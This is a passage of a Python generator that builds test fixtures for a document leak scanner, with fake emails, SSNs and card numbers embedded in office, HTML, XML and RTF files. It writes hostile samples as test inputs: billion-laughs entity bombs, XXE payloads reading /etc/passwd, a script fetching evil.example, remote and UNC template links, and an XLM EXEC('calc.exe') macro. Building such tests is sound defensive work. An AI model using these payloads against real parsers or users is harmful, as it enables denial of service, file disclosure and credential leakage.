    extra = [("Object 1/content.xml", obj), ("Pictures/100000000000000100000001.png", png_1x1())]
    return odf_parts("text", content, styles, odf_meta("odt.creator@example.com", "Client", "odt.userdef@example.com"),
                     extra)


ODT_EMAILS_ROOT = ["odt.deleted@example.com", "odt.body@example.com", "odt.table@example.com",
                   "odt.comment@example.com", "odt.footnote@example.com", "odt.alt@example.com",
                   "odt.header@example.com", "odt.footer@example.com", "odt.creator@example.com",
                   "odt.userdef@example.com"]


def ods_parts():
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content %s><office:body><office:spreadsheet>'
               # a sheet's name is text too (Excel and Calc allow "@" and "." in it)
               '<table:table table:name="Payroll ods.sheet@example.com"><table:table-row>'
               '<table:table-cell office:value-type="string"><text:p>SSN</text:p></table:table-cell>'
               # displayed in scientific format; the value is the full number
               '<table:table-cell office:value-type="float" office:value="%s"><text:p>5.36E+08</text:p></table:table-cell>'
               '<table:table-cell table:number-columns-repeated="1000"/></table:table-row>'
               '<table:table-row><table:table-cell><text:p>Email</text:p></table:table-cell>'
               '<table:table-cell><text:p>ods.cell@example.com</text:p></table:table-cell></table:table-row>'
               '</table:table></office:spreadsheet></office:body></office:document-content>' % (ODF_NS, SSN_NUM))
    styles = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles %s><office:master-styles>'
              '<style:master-page style:name="Default"><style:header><style:region-center><text:p>%s</text:p>'
              '</style:region-center></style:header></style:master-page></office:master-styles>'
              '</office:document-styles>' % (ODF_NS, MARK))
    return odf_parts("spreadsheet", content, styles, odf_meta("ods.creator@example.com", "Dept", "Finance"))


def odp_parts():
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content %s><office:body><office:presentation>'
               '<draw:page draw:name="page1"><draw:frame><draw:text-box><text:p>odp.slide@example.com</text:p>'
               '</draw:text-box></draw:frame><presentation:notes><draw:frame><draw:text-box>'
               '<text:p>Notes: odp.notes@example.com</text:p></draw:text-box></draw:frame></presentation:notes>'
               '</draw:page></office:presentation></office:body></office:document-content>' % ODF_NS)
    styles = '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles %s/>' % ODF_NS
    return odf_parts("presentation", content, styles, odf_meta("odp.creator@example.com", "x", "y"))


# ---------------------------------------------------------------- HTML, XML, SVG, text

def html_doc():
    return ("""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Staff page</title>
<meta name="author" content="html.meta@example.com">
<style>/* style.rule@example.com */ body { font-family: sans-serif }</style>
<script>var contact = "script.person@example.com"; fetch("https://evil.example/x");</script>
</head><body>
<h1>Staff</h1>
<p>Write to html&#46;entity&#64;example&#46;com or <a href="mailto:html.mailto@example.com">us</a>.</p>
<table><tr><th>SSN</th><td>%s</td></tr><tr><td>Card</td><td>%s</td></tr>
<tr><td>Ref</td><td>%s</td></tr></table>
<p>This page is <b>CONFI</b><b>DENTIAL</b>? no: <span>%s</span></p>
<img src="https://tracker.example.net/p.gif" alt="html.alt@example.com">
<p>Caf&eacute; &amp; bar</p>
</body></html>
""" % (SSN, grouped(CARD), grouped(DECOY), MARK)).encode("utf-8")


HTML_EMAILS = ["html.entity@example.com", "html.mailto@example.com", "html.meta@example.com",
               "script.person@example.com", "html.alt@example.com"]


def xml_doc():
    return (XML_DECL + '<records xmlns="urn:example:hr"><person id="1"><name>Jane Roe</name>'
            '<email>xml.person@example.com</email><ssn>%s</ssn></person>'
            '<person id="2"><email>xml&#46;entity@example.com</email></person></records>\n' % SSN).encode("utf-8")


def svg_doc():
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50">'
            '<title>svg.title@example.com</title><text x="0" y="20">svg.text@example.com</text></svg>\n').encode("utf-8")


def xxe_xml(secret_path):
    return ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://%s">'
            '<!ENTITY %% pe SYSTEM "file://%s">]>\n<r><a>xml.xxe.before@example.com</a><b>&xxe;</b></r>\n'
            % (secret_path, secret_path)).encode("utf-8")


def text_body():
    return ("Name: Jos\u00e9 M\u00fcller\r\nSSN: %s\r\nMail: %%s\r\nCard: %s\r\nRef: %s\r\n"
            % (SSN, grouped(CARD), grouped(DECOY)))


# ---------------------------------------------------------------- RTF

def rtf_hex(data):
    h = data.hex()
    return "\n".join(h[i:i + 128] for i in range(0, len(h), 128))


def ole1_object(class_name, native):
    """An OLE 1.0 embedded object as written into \\objdata."""
    def lp(s):
        b = s.encode("latin-1") + b"\x00"
        return struct.pack("<I", len(b)) + b
    return (struct.pack("<II", 0x00000501, 2) + lp(class_name) + lp("") + lp("") +
            struct.pack("<I", len(native)) + native)


def ole_package(filename, data):
    """OLE Packager native data wrapping one file (as Packager.exe writes it)."""
    path = ("C:\\Users\\jdoe\\AppData\\Local\\Temp\\" + filename).encode("latin-1") + b"\x00"
    return (struct.pack("<H", 2) + filename.encode("latin-1") + b"\x00" + path +
            struct.pack("<I", 0x00030000) + struct.pack("<I", len(path)) + path +
            struct.pack("<I", len(data)) + data)


def rtf_doc():
    native = ("Embedded note for rtf.object@example.com\r\nSSN %s\r\n" % SSN).encode("ascii")
    obj = ole1_object("Package", ole_package("notes.txt", native))
    return ("{\\rtf1\\ansi\\ansicpg1252\\deff0\\deflang1033"
            "{\\fonttbl{\\f0\\fswiss\\fcharset0 Arial;}{\\f1\\froman\\fcharset0 fonttable.person@example.com;}}\n"
            "{\\colortbl ;\\red255\\green0\\blue0;}\n"
            "{\\stylesheet{\\s0 Normal;}}\n"
            "{\\*\\generator Riched20 10.0.19041}\n"
            "{\\info{\\author rtf.author@example.com}{\\company Acme Widgets Ltd}{\\operator rtf.operator@example.com}"
            "{\\title Personnel file}}\n"
            "\\viewkind4\\uc1\\pard\\f0\\fs22 Contact: rtf.body{\\b @}example.com\\par\n"
            "SSN 536-22-{\\i 1874}\\par\n"
            "Name: Jos\\'e9 M\\u252?ller \\u8364? 100\\par\n"
            "\\trowd\\cellx2000\\cellx6000 Card\\cell %s\\cell\\row\n"
            "\\trowd\\cellx2000\\cellx6000 Ref\\cell %s\\cell\\row\n"
            "{\\header \\pard CONFI{}DENTIAL rtf.header@example.com\\par}\n"
            "{\\*\\annotation rtf.comment@example.com}\n"
            "{\\*\\bkmkstart x}Hidden{\\*\\bkmkend x}\\par\n"
            "Binary {\\pict\\pngblip\\bin4 \x00\x01\x02\x03}skipped\\par\n"
            "{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata\n%s\n}}\\par\n"
            "}\n" % (grouped(CARD), grouped(DECOY), rtf_hex(obj))).encode("latin-1")


RTF_EMAILS = ["rtf.body@example.com", "rtf.author@example.com", "rtf.operator@example.com",
              "rtf.header@example.com", "rtf.comment@example.com"]


# ---------------------------------------------------------------- hostile variants

LOL_DTD = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
           '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
           '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
           '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
           '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
           '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
           '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
           '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>')


def truncated(data, frac=0.6):
    return data[:int(len(data) * frac)]


def docx_cut_xml():
    """A valid zip whose document.xml stops mid-way: partial text."""
    full = docx_body({})
    cut = full[:full.index("<w:tbl>") + 40]
    return docx_parts({}, document_xml=cut, embed=False)


def corrupt_member(data, member):
    """Flip bytes inside one member's deflate stream (zip still indexes)."""
    buf = bytearray(data)
    name = member.encode()
    at = buf.find(name)  # first occurrence: the local header
    start = at + len(name) + 20
    for i in range(start, min(start + 40, len(buf))):
        buf[i] ^= 0x5A
    return bytes(buf)


# ---------------------------------------------------------------- driver

def E(emails=(), ssn=(), card=(), marking=False):
    ent = {}
    if emails:
        ent["email"] = list(emails)
    if ssn:
        ent["ssn"] = list(ssn)
    if card:
        ent["credit_card"] = list(card)
    if marking:
        ent["marking"] = True
    return ent


def generate(out, secret_path=None, write_expect=True):
    os.makedirs(out, exist_ok=True)
    exp = {}

    def put(name, data):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)

    absent_card = {"credit_card": [DECOY]}

    # --- OOXML ---
    write_zip(os.path.join(out, "memo.docx"), docx_parts({"body_mark": MARK}))
    exp["memo.docx"] = {
        "handler": "ooxml",
        "entities": E(DOCX_EMAILS, [SSN], [CARD], True),
        "absent": absent_card,
        "children": {"word/embeddings/Microsoft_Excel_Worksheet.xlsx":
                     {"handler": "ooxml", "entities": E(["embedded.person@example.com"], [SSN_NUM])},
                     "word/media/image1.png": {}},
    }
    write_zip(os.path.join(out, "macro.docm"), docx_parts({}, embed=False, vba=True))
    exp["macro.docm"] = {"handler": "ooxml", "alerts": ["macro"], "children": {"word/vbaProject.bin": {}},
                         "entities": E(["body.person@example.com"])}
    write_zip(os.path.join(out, "remote_template.docx"),
              docx_parts({}, embed=False,
                         settings_rels=[("rId1", "attachedTemplate", "http://templates.evil.example/t.dotm", True)]))
    exp["remote_template.docx"] = {"handler": "ooxml", "alerts": ["external_link"],
                                   "entities": E(["body.person@example.com"])}
    # Word writes the local template a document was made from as an external
    # relationship (file:///C:/..., Normal.dotm): nothing is fetched, no alert.
    # A UNC path is fetched over SMB (and leaks the reader's NTLM hash).
    write_zip(os.path.join(out, "local_template.docx"),
              docx_parts({}, embed=False,
                         settings_rels=[("rId1", "attachedTemplate",
                                         "file:///C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Templates\\Memo.dotm",
                                         True),
                                        ("rId2", "attachedTemplate", "Normal.dotm", True)]))
    exp["local_template.docx"] = {"handler": "ooxml", "no_alerts": ["external_link"],
                                  "entities": E(["body.person@example.com"])}
    write_zip(os.path.join(out, "unc_template.docx"),
              docx_parts({}, embed=False,
                         settings_rels=[("rId1", "attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm", True)]))
    exp["unc_template.docx"] = {"handler": "ooxml", "alerts": ["external_link"],
                                "entities": E(["body.person@example.com"])}
    write_zip(os.path.join(out, "payroll.xlsx"), xlsx_main())
    exp["payroll.xlsx"] = {"handler": "ooxml",
                           "entities": E(XLSX_EMAILS, [SSN_NUM, SSN_NUM_E], [CARD2], True),
                           "absent": absent_card, "no_alerts": ["external_link", "macro"]}
    write_zip(os.path.join(out, "payroll_macro.xlsm"), xlsx_main(vba=True))
    exp["payroll_macro.xlsm"] = {"handler": "ooxml", "alerts": ["macro"],
                                 "children": {"xl/vbaProject.bin": {}}, "entities": E(["sst.person@example.com"])}
    # Excel 4.0 (XLM) macro sheet: no VBA, still a macro
    write_zip(os.path.join(out, "xlm_macro.xlsm"),
              xlsx_parts([("Data", x_sheet([[("xlm.data@example.com", "inline")]]))], x_sst(["a"]),
                         extra=[("xl/macrosheets/sheet1.xml",
                                 x_sheet([[('EXEC("calc.exe")', "inline")]]))]))
    exp["xlm_macro.xlsm"] = {"handler": "ooxml", "alerts": ["macro"], "entities": E(["xlm.data@example.com"])}
    write_zip(os.path.join(out, "deck.pptx"), pptx_parts())
    exp["deck.pptx"] = {"handler": "ooxml", "entities": E(PPTX_EMAILS, [SSN], [CARD], True),
                        "alerts": ["external_link"], "children": {"ppt/media/image1.png": {}}}

    # hostile / damaged OOXML
    lol = LOL_DTD
    write_zip(os.path.join(out, "billion_laughs.docx"),
              docx_parts({}, doctype=lol, entity_refs=w_p(w_r("&lol9;&lol9;")), embed=False))
    exp["billion_laughs.docx"] = {"handler": "ooxml", "alerts": ["xml_entity"],
                                  "entities": E(["body.person@example.com", "table.person@example.com"])}
    if secret_path:
        xxe = ('<!DOCTYPE d [<!ENTITY xxe SYSTEM "file://%s"><!ENTITY %% pe SYSTEM "file://%s">]>'
               % (secret_path, secret_path))
        write_zip(os.path.join(out, "xxe.docx"),
                  docx_parts({}, doctype=xxe, entity_refs=w_p(w_r("&xxe;")), embed=False))
        exp["xxe.docx"] = {"handler": "ooxml", "alerts": ["xml_entity"],
                           "entities": E(["body.person@example.com"]),
                           "absent": {"email": ["xxe.secret@example.com"]}}
        put("xxe.xml", xxe_xml(secret_path))
        exp["xxe.xml"] = {"handler": "xml", "alerts": ["xml_entity"],
                          "entities": E(["xml.xxe.before@example.com"]),
                          "absent": {"email": ["xxe.secret@example.com"]}}
    with open(os.path.join(out, "memo.docx"), "rb") as f:
        memo = f.read()
    put("truncated.docx", truncated(memo))
    # cut before the zip directory: members salvaged from their local headers
    exp["truncated.docx"] = {"handler": "ooxml", "partial": True, "reasons": ["truncated"],
                             "entities": E(["body.person@example.com", "table.person@example.com",
                                            "header.person@example.com", "comment.person@example.com"],
                                           [SSN], [CARD], True)}
    write_zip(os.path.join(out, "cut_xml.docx"), docx_cut_xml())
    exp["cut_xml.docx"] = {"handler": "ooxml", "partial": True,
                           "entities": E(["body.person@example.com", "header.person@example.com"])}
    put("corrupt_member.docx", corrupt_member(memo, "word/document.xml"))
    exp["corrupt_member.docx"] = {"handler": "ooxml", "partial": True,
                                  "entities": E(["header.person@example.com", "footer.person@example.com"])}

    # --- ODF ---
    write_odf(os.path.join(out, "letter.odt"), odt_parts())
    exp["letter.odt"] = {"handler": "odf", "entities": E(ODT_EMAILS_ROOT, [SSN], [CARD], True),
                         "absent": absent_card,
                         "children": {"Object 1/content.xml": {"entities": E(["odt.object@example.com"])},
                                      "Pictures/100000000000000100000001.png": {}}}
    # password-protected ODF: members listed with encryption-data in the manifest
    enc_manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
                    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
                    '<manifest:file-entry manifest:full-path="/" manifest:media-type="%stext"/>'
                    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" '
                    'manifest:size="2048"><manifest:encryption-data manifest:checksum-type="SHA1/1K" '
                    'manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
                    'manifest:initialisation-vector="AAAA"/></manifest:encryption-data></manifest:file-entry>'
                    '</manifest:manifest>' % ODF_MIME)
    write_odf(os.path.join(out, "encrypted.odt"),
              [("mimetype", ODF_MIME + "text"), ("content.xml", bytes(RNG.randrange(256) for _ in range(600))),
               ("meta.xml", odf_meta("odt.enc.creator@example.com", "x", "y")),
               ("META-INF/manifest.xml", enc_manifest)])
    exp["encrypted.odt"] = {"handler": "odf", "partial": True, "reasons": ["encrypted"],
                            "entities": E(["odt.enc.creator@example.com"])}
    write_odf(os.path.join(out, "sheet.ods"), ods_parts())
    exp["sheet.ods"] = {"handler": "odf", "entities": E(["ods.cell@example.com", "ods.creator@example.com",
                                                         "ods.sheet@example.com"],
                                                        [SSN_NUM], (), True)}
    write_odf(os.path.join(out, "slides.odp"), odp_parts())
    exp["slides.odp"] = {"handler": "odf", "entities": E(["odp.slide@example.com", "odp.notes@example.com",
                                                          "odp.creator@example.com"])}
    with open(os.path.join(out, "letter.odt"), "rb") as f:
        odt = f.read()
    put("truncated.odt", truncated(odt))
    exp["truncated.odt"] = {"handler": "odf", "partial": True, "reasons": ["truncated"],
                            "entities": E(["odt.body@example.com", "odt.header@example.com"], [SSN])}
    lol_odt = odt_parts()
    lol_odt[1] = ("content.xml", lol_odt[1][1].replace("\n<office:document-content", "\n" + LOL_DTD.replace(
        "lolz", "office:document-content") + "<office:document-content", 1).replace(
        "<text:h ", "<text:p>&lol9;</text:p><text:h ", 1))
    write_odf(os.path.join(out, "billion_laughs.odt"), lol_odt)
    exp["billion_laughs.odt"] = {"handler": "odf", "alerts": ["xml_entity"],
                                 "entities": E(["odt.body@example.com"])}

    # --- HTML / XML / SVG ---
    put("staff.html", html_doc())
    exp["staff.html"] = {"handler": "html", "entities": E(HTML_EMAILS, [SSN], [CARD], True),
                         "absent": absent_card}
    put("records.xml", xml_doc())
    exp["records.xml"] = {"handler": "xml", "entities": E(["xml.person@example.com", "xml.entity@example.com"], [SSN])}
    put("badge.svg", svg_doc())
    exp["badge.svg"] = {"handler": "xml", "entities": E(["svg.title@example.com", "svg.text@example.com"])}
    put("billion_laughs.xml", (XML_DECL + LOL_DTD + "<lolz><a>xml.lol@example.com</a>&lol9;</lolz>\n").encode())
    exp["billion_laughs.xml"] = {"handler": "xml", "alerts": ["xml_entity"], "entities": E(["xml.lol@example.com"])}

    # --- text encodings ---
    put("utf16le_bom.txt", b"\xff\xfe" + (text_body() % "utf16le.person@example.com").encode("utf-16-le"))
    exp["utf16le_bom.txt"] = {"handler": "text", "text": True,
                              "entities": E(["utf16le.person@example.com"], [SSN], [CARD]), "absent": absent_card}
    put("utf16be_nobom.txt", (text_body() % "utf16be.person@example.com").encode("utf-16-be"))
    exp["utf16be_nobom.txt"] = {"handler": "text", "text": True,
                                "entities": E(["utf16be.person@example.com"], [SSN], [CARD])}
    put("cp1252.txt", (text_body() % "cp1252.person@example.com").replace("Card", "Karte \u20ac").encode("cp1252"))
    exp["cp1252.txt"] = {"handler": "text", "text": True,
                         "entities": E(["cp1252.person@example.com"], [SSN], [CARD])}
    put("utf8.txt", (text_body() % "utf8.person@example.com").encode("utf-8"))
    exp["utf8.txt"] = {"handler": "text", "text": False, "entities": E(["utf8.person@example.com"], [SSN], [CARD])}

    # --- RTF ---
    put("note.rtf", rtf_doc())
    exp["note.rtf"] = {"handler": "rtf", "entities": E(RTF_EMAILS, [SSN], [CARD], True),
                       "absent": {"credit_card": [DECOY]},
                       "children": {"notes.txt": {"entities": E(["rtf.object@example.com"], [SSN])}}}
    rtf = rtf_doc()
    put("truncated.rtf", rtf[:rtf.index(b"\\trowd")])
    exp["truncated.rtf"] = {"handler": "rtf", "partial": True, "entities": E(["rtf.body@example.com"], [SSN])}
    put("deep.rtf", b"{\\rtf1 " + b"{" * 100000 + b"deep.person@example.com" + b"}" * 100000 + b"}")
    exp["deep.rtf"] = {"handler": "rtf", "partial": True}

    if write_expect:
        with open(os.path.join(out, "expect.json"), "w") as f:
            json.dump(exp, f, indent=1, sort_keys=True)
    return exp


def corpus(root):
    """Small seed corpora for the fuzz harnesses (each file <= 64 KiB)."""
    def put(handler, name, data):
        d = os.path.join(root, handler)
        os.makedirs(d, exist_ok=True)
        assert len(data) <= 65536, (handler, name, len(data))
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    put("ooxml", "memo_noembed.docx", zip_bytes(docx_parts({"body_mark": MARK}, embed=False)))
    put("ooxml", "payroll.xlsx", zip_bytes(xlsx_main()))
    put("ooxml", "deck.pptx", zip_bytes(pptx_parts()))
    put("ooxml", "lol.docx", zip_bytes(docx_parts({}, doctype=LOL_DTD, entity_refs=w_p(w_r("&lol9;")), embed=False)))
    put("ooxml", "stored.docx", _stored(docx_parts({}, embed=False)))
    put("ooxml", "truncated.docx", truncated(zip_bytes(docx_parts({}, embed=False)), 0.7))
    put("ooxml", "truncated_stored.docx", truncated(_stored(docx_parts({}, embed=False)), 0.7))
    put("odf", "letter.odt", odf_bytes(odt_parts()))
    put("odf", "sheet.ods", odf_bytes(ods_parts()))
    put("odf", "slides.odp", odf_bytes(odp_parts()))
    put("odf", "letter_stored.odt", _stored(odt_parts()))
    put("odf", "truncated.odt", truncated(odf_bytes(odt_parts()), 0.7))
    put("html", "staff.html", html_doc())
    put("html", "cp1252.html", "<p>caf\u00e9 \u20ac <b>x</b><br>y</p>".encode("cp1252"))
    put("html", "utf16.html", b"\xff\xfe" + "<html><body><p>utf16 html</p></body></html>".encode("utf-16-le"))
    put("xml", "records.xml", xml_doc())
    put("xml", "badge.svg", svg_doc())
    put("xml", "lol.xml", (XML_DECL + LOL_DTD + "<lolz>&lol9;</lolz>").encode())
    put("xml", "xxe.xml", xxe_xml("/etc/passwd"))
    put("xml", "xmp.xml", ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
                           '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:pdf="http://ns.adobe.com/pdf/1.3/" '
                           'pdf:Producer="x"><dc:creator><rdf:Seq><rdf:li>Jane</rdf:li></rdf:Seq></dc:creator>'
                           '</rdf:Description></rdf:RDF></x:xmpmeta>').encode())
    put("rtf", "note.rtf", rtf_doc())
    put("rtf", "minimal.rtf", b"{\\rtf1\\ansi hello \\'e9 \\u8364? {\\*\\x skip} \\par}")
    put("rtf", "uc2.rtf", b"{\\rtf1\\uc2 a\\u8364\\'80\\'80b{\\uc0\\u8364 c}\\bin3 xyzd}")
    put("rtf", "objdata.rtf", ("{\\rtf1{\\object{\\*\\objdata %s}}}" % ole1_object("Package", b"hello").hex()).encode())


def golden(root):
    """Inputs of the golden text tests (tests/golden/<fmt>/<name>.<ext>); the
    expected <name>.txt next to each is a reviewed `leaksift text` snapshot."""
    def put(fmt, name, data):
        d = os.path.join(root, fmt)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    put("ooxml", "memo.docx", zip_bytes(docx_parts({"body_mark": MARK}, embed=False)))
    put("ooxml", "payroll.xlsx", zip_bytes(xlsx_main()))
    put("ooxml", "deck.pptx", zip_bytes(pptx_parts()))
    put("odf", "letter.odt", odf_bytes(odt_parts()))
    put("odf", "sheet.ods", odf_bytes(ods_parts()))
    put("html", "staff.html", html_doc())
    put("xml", "records.xml", xml_doc())
    put("xml", "badge.svg", svg_doc())
    put("rtf", "note.rtf", rtf_doc())
    # not *.txt: the expected text of <name>.<ext> is <name>.txt
    put("text", "utf16le_bom.log", b"\xff\xfe" + (text_body() % "utf16le.person@example.com").encode("utf-16-le"))
    put("text", "cp1252.csv", (text_body() % "cp1252.person@example.com").encode("cp1252"))


def _stored(parts):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in parts:
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 5, 17, 9, 30, 0)),
                       data.encode() if isinstance(data, str) else data)
    return buf.getvalue()


def main(argv):
    if len(argv) == 3 and argv[1] == "--corpus":
        corpus(argv[2])
        return 0
    if len(argv) == 3 and argv[1] == "--golden":
        golden(argv[2])
        return 0
    if len(argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    generate(argv[1])
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
